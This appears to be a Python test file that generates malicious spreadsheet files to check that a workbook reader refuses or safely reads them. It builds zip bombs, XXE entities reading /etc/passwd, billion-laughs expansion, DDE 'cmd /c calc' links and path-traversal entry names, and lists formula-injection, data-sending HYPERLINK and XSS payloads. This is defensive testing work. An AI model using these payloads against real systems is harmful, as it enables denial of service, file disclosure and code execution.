"""Files that somebody made to hurt, each from a right answer that LibreOffice saved.

`REFUSED` must each give one finding about the whole file. `READ` are answered like any other file, and what is
hostile in them must come out as plain text.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.gallery.surgery import in_sheets, locked, rewritten

Make = Callable[[bytes], bytes]
SHEET = "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "{}">{}]>'


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


def packed(parts: dict[str, bytes], *more: tuple[str, bytes]) -> bytes:
    """A zip of the parts, and of more parts whose names may be there already."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for name, part in (*parts.items(), *more):
            made.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_part(name: str, change: Callable[[bytes], bytes]) -> Make:
    return lambda content: rewritten(content, lambda n, part: change(part) if n == name else part)


def at_end(xml: str) -> Make:
    """More rows at the end of the sheet Mål."""
    return with_part(SHEET, lambda part: part.replace(b"</sheetData>", xml.encode() + b"</sheetData>"))


def before_root(xml: str, name: str = SHEET) -> Make:
    return with_part(name, lambda part: re.sub(rb"^(<\?xml[^>]*\?>)?", lambda m: (m[1] or b"") + xml.encode(), part))


# ---------------------------------------------------------------------------------------------------- zips
def bomb(content: bytes) -> bytes:
    """Three hundred megabytes of blanks in a sheet."""
    return packed(parts_of(content) | {SHEET: b" " * 300_000_000})


def lying_bomb(content: bytes) -> bytes:
    """The same, but the directory says that it is a thousand bytes."""
    made = bytearray(bomb(content))
    for at in (m.start() for m in re.finditer(re.escape(struct.pack("<I", 300_000_000)), bytes(made))):
        made[at : at + 4] = struct.pack("<I", 1000)
    return bytes(made)


def nested(content: bytes) -> bytes:
    """A zip in a zip in a zip, thirty deep."""
    made = content
    for _ in range(30):
        made = packed({"svar.zip": made})
    return made


def nested_workbooks(content: bytes) -> bytes:
    """The same, where each calls itself a workbook."""
    made = content
    for _ in range(30):
        made = packed({"svar.xlsx": made})
    return made


def overlapping(content: bytes) -> bytes:
    """Two hundred entries that all are the same megabytes of the file."""
    core = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = b"a" * 8_000_000
    data = core.compress(plain) + core.flush()
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(plain), len(data), len(plain), 1, 0)
    out = b"PK\3\4" + head + b"x" + data
    tail = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, zlib.crc32(plain), len(data), len(plain), 17, *[0] * 6)
    entries = b"".join(b"PK\1\2" + tail + b"xl/%010d.xml" % n for n in range(200))
    start = len(out)
    return out + entries + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 200, 200, len(entries), start, 0)


def crowded(content: bytes) -> bytes:
    """Two hundred thousand empty parts."""
    entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 33, 0, 0, 0, 6, *[0] * 6)
    entries = b"".join(b"PK\1\2" + entry + b"%06d" % n for n in range(65_000))
    start = struct.pack("<HHHHIIH", 0, 0, 65_000, 65_000, len(entries), 0, 0)
    return b"PK\3\4" + entries[:0] + entries + b"PK\5\6" + start


def twins(content: bytes) -> bytes:
    """Two parts of the same name; programs differ in which they read."""
    parts = parts_of(content)
    wide = parts[SHEET].replace(b"</sheetData>", FAR.encode() + b"</sheetData>")
    return packed({SHEET: wide} | {n: p for n, p in parts.items() if n != SHEET}, (SHEET, parts[SHEET]))


def twins_by_case(content: bytes) -> bytes:
    parts = parts_of(content)
    wide = parts[SHEET].replace(b"</sheetData>", FAR.encode() + b"</sheetData>")
    return packed({SHEET.replace("sheet2", "Sheet2"): wide} | parts)


def elsewhere(content: bytes) -> bytes:
    """The sheet lies in a part that doesn't call itself XML."""
    parts = parts_of(content)
    wide = parts.pop(SHEET).replace(b"</sheetData>", FAR.encode() + b"</sheetData>")
    links = "xl/_rels/workbook.xml.rels"
    parts[links] = parts[links].replace(b"worksheets/sheet2.xml", b"media/picture.png")
    return packed(parts | {"xl/media/picture.png": wide})


def no_sheets(content: bytes) -> bytes:
    return with_part("xl/workbook.xml", lambda p: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", p, flags=re.S))(content)


# ---------------------------------------------------------------------------------------------------- sheets
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
FAR_WAYS = {
    "två celler långt isär": FAR,
    "långt isär, enkla citattecken": FAR.replace('"', "'"),
    "långt isär, blanka kring likhetstecknet": FAR.replace('r="XFD', 'r = "XFD'),
    "långt isär, text före värdet": FAR.replace("<v>", "x<v>"),
    "långt isär, kommentar före värdet": FAR.replace("<v>", "<!-- > --><v>"),
    "långt isär, större än i ett attribut": FAR.replace("<c ", '<c x=">" '),
    "långt isär, teckenreferens": FAR.replace("XFD", "&#88;FD"),
    "långt isär, raden sist": FAR.replace('<c r="XFD1048576">', '<c t="n">'),
    "långt isär, små bokstäver": FAR.replace("XFD", "xfd"),
    "långt isär, inledande nollor": FAR.replace("XFD1048576", "XFD0001048576"),
    "rad 4 294 967 295": FAR.replace("1048576", "4294967295"),
    "kolumn ZZZZZZZ": FAR.replace("XFD", "ZZZZZZZ"),
    "rad noll": FAR.replace("XFD1048576", "A0"),
}
MANY = 12_000
"""Rows of many sheets that each are within the limits."""


def many_wide(content: bytes) -> bytes:
    """Thirty sheets that each reach as far as one sheet may."""
    parts = parts_of(content)
    far = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    far += b'<row r="1"><c r="A1"><v>1</v></c></row><row r="19999"><c r="IF19999"><v>1</v></c></row>'
    far += b"</sheetData></worksheet>"
    sheets, links = b"", b""
    for n in range(60, 90):
        parts[f"xl/worksheets/sheet{n}.xml"] = far
        sheets += b'<sheet name="Blad%d" sheetId="%d" r:id="rx%d"/>' % (n, n, n)
        links += b'<Relationship Id="rx%d" Target="worksheets/sheet%d.xml" Type="%s"/>' % (n, n, WORKSHEET)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", sheets + b"</sheets>")
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", links + b"</Relationships>")
    return packed(parts)


WORKSHEET = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"


def open_tags(tag: str, count: int) -> Make:
    """The beginnings of many elements, none ended: what a careless pattern looks at again and again."""
    noise = "".join(f"{tag}{n % 97:02d} " for n in range(count))
    return at_end(f"<!-- {noise} -->")


def merges(count: int, area: str) -> Make:
    xml = f'<mergeCells count="{count}">{f"<mergeCell ref={chr(34)}{area}{chr(34)}/>" * count}</mergeCells>'
    return with_part(SHEET, lambda part: part.replace(b"</sheetData>", b"</sheetData>" + xml.encode()))


def strings(count: int, one: str) -> Make:
    made = "".join(one.replace("#", str(n)) for n in range(count)).encode()
    return with_part(STRINGS, lambda part: part.replace(b"</sst>", made + b"</sst>"))


def deep(count: int, name: str = SHEET) -> Make:
    inside = b"<x>" * count + b"</x>" * count
    return with_part(name, lambda part: part.replace(b"</sheetData>", b"</sheetData>" + inside))


def utf16(content: bytes) -> bytes:
    """The sheet in UTF-16, with an entity that nobody sees who looks for letters."""
    wide = FAR + "</sheetData>"

    def change(part: bytes) -> bytes:
        text = re.sub(r"^<\?xml[^>]*\?>", '<?xml version="1.0" encoding="UTF-16"?>', part.decode())
        return text.replace("</sheetData>", wide).encode("utf-16")

    return with_part(SHEET, change)(content)


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10))
REFUSED: dict[str, Make] = {
    "zipbomb": bomb,
    "zipbomb som ljuger om sin storlek": lying_bomb,
    "zip i zip, trettio gånger": nested,
    "zip i arbetsbok, trettio gånger": nested_workbooks,
    "överlappande delar": overlapping,
    "65 000 delar": crowded,
    "två delar med samma namn": twins,
    "två delar med nästan samma namn": twins_by_case,
    "blad i en bild": elsewhere,
    "inga blad": no_sheets,
    **{name: at_end(xml) for name, xml in FAR_WAYS.items()},
    "en miljon rader": at_end("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(50, 1_000_000))),
    "två miljoner celler utan plats": at_end(f"<row>{'<c><v>1</v></c>' * 2_000_000}</row>"),
    "trettio vida blad": many_wide,
    "celler som aldrig slutar": open_tags("<c ", 2_000_000),
    "celler med plats som aldrig slutar": open_tags('<c r="A1" ', 1_000_000),
    "en öppen cell i en kommentar": at_end(f"<!-- {'<c r=%sA1%s>' % (chr(34), chr(34)) * 400_000} -->"),
    "utvidgade entiteter": before_root(f"<!DOCTYPE x [{LAUGHS}]>"),
    "utvidgade entiteter i strängarna": before_root(f"<!DOCTYPE x [{LAUGHS}]>", STRINGS),
    "utvidgade entiteter i länkarna": before_root(f"<!DOCTYPE x [{LAUGHS}]>", "xl/_rels/workbook.xml.rels"),
    "yttre entitet": before_root('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "yttre entitet i arbetsboken": before_root('<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">', "xl/workbook.xml"),
    "blad i UTF-16": utf16,
    "fyra miljoner strängar": strings(4_000_000, "<si><t/></si>"),
    "låst med lösenord": locked,
    "bara början": lambda content: content[: len(content) // 2],
    "bara slutet": lambda content: content[len(content) // 2 :],
    "nollor": lambda content: b"\0" * 1_000_000,
    "falsk arbetsbok": lambda content: packed({"xl/workbook.xml": b"", "xl/_rels/workbook.xml.rels": b""}),
    "trasig OLE": lambda content: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + b"\xff" * 9000,
    "tvåhundra miljoner byte": lambda content: b"PK\3\4" + b"\0" * 200_000_000,
}  # fmt: skip


# ---------------------------------------------------------------------------------------------------- read anyway
def macros(content: bytes) -> bytes:
    return packed(parts_of(content) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 4096})


def embedded(content: bytes) -> bytes:
    objects = {"xl/embeddings/oleObject1.bin": b"MZ" + b"\0" * 9000, "xl/activeX/activeX1.bin": b"\0" * 900}
    return packed(parts_of(content) | objects)


def outside_links(content: bytes) -> bytes:
    """A workbook elsewhere, a DDE link, a picture to be fetched, a query."""
    head = b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    dde = (
        head
        + b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="x"/></ddeItems></ddeLink></externalLink>'
    )
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    rels += (
        b'Type="x/externalLinkPath" Target="file:///\\\\127.0.0.1\\x\\y.xlsx" TargetMode="External"/></Relationships>'
    )
    more = {"xl/externalLinks/externalLink1.xml": dde, "xl/externalLinks/_rels/externalLink1.xml.rels": rels}
    return packed(parts_of(content) | more)


def outside_path(content: bytes) -> bytes:
    """Parts whose names lead out of the folder."""
    names = ("../../../../tmp/ut.txt", "/etc/ut.txt", "..\\..\\ut.txt", "C:\\ut.txt")
    return packed(parts_of(content) | dict.fromkeys(names, b"ute"))


EITHER: dict[str, Make] = {
    "en miljon sammanslagningar": merges(1_000_000, "A1:B900"),
    "rader som aldrig slutar": open_tags('<row r="1" ', 1_000_000),
}
"""Read or refused, whichever a reader finds first; never slow."""

READ: dict[str, Make] = {
    "makron": macros,
    "inbäddade objekt": embedded,
    "länkar ut": outside_links,
    "namn som leder ut": outside_path,
    "hundratusen strängar": strings(100_000, "<si><t>text #</t></si>"),
    "två hundra lager": deep(200),
    "tom cell längst bort": at_end('<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
    "påstådd storlek": in_sheets(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"'),
}

EVIL = (
    "=HYPERLINK(\"http://ont.example/?x=\"&A1,\"Klicka\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "http://ont.example/",
    "mailto:a@ont.example", "internal:'Mål'!A1", "file://///ont.example/x", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "<!--", "]]>", "{{ 7*7 }}{% raw %}", "</style><svg onload=alert(1)>",
    "&lt;b&gt;", "javascript:alert(1)", "\u202egnp.exe", "a\u0000b\u0008c".replace("\0", ""), "\ud800", "\ufffe\uffff",
    "x" * 40_000, "å" * 33_000, "\n" * 500, "%s%n{0}{namn}", "../../../etc/passwd", "_x000D__x0041_",
)  # fmt: skip
"""What is written in text fields; a lone surrogate can't be put in a file, only handed over by a program."""
